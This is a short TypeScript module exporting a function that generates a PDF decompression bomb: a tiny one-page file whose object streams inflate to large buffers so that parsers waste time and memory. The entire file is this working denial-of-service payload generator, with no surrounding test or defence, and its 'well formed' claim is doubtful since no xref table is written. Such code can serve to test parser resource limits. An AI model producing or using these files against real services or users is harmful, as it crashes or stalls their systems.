import { deflateSync } from 'node:zlib';

const MEGABYTE = 1024 * 1024;

interface Bomb {
  parts: number;
  /** Of each part, once it is inflated: a thousandth of that as it lies there. */
  megabytes: number;
  /** What fills it: nothing, which only takes time, or numbers, which take a multiple in memory. */
  filling?: ' ' | '1 ';
}

/** A small and well formed PDF of one page, with lists of objects that inflate to much. */
export function pdfBomb({ parts, megabytes, filling = ' ' }: Bomb): Uint8Array {
  const content = Buffer.alloc(megabytes * MEGABYTE, filling);
  content.write('9 0 [');
  content.write(' ]', content.length - 2);
  const list = deflateSync(content, { level: 9 });
  const objects: Buffer[] = [
    '1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n',
    '2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n',
    '3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>\nendobj\n',
  ].map((text) => Buffer.from(text));
  for (let part = 0; part < parts; part += 1) {
    const head = `${10 + part} 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${list.length}>>\nstream\n`;
    objects.push(Buffer.from(head), list, Buffer.from('\nendstream\nendobj\n'));
  }
  const body = Buffer.concat([Buffer.from('%PDF-1.7\n'), ...objects]);
  const end = `trailer\n<</Root 1 0 R/Size ${10 + parts}>>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.concat([body, Buffer.from(end)]);
}
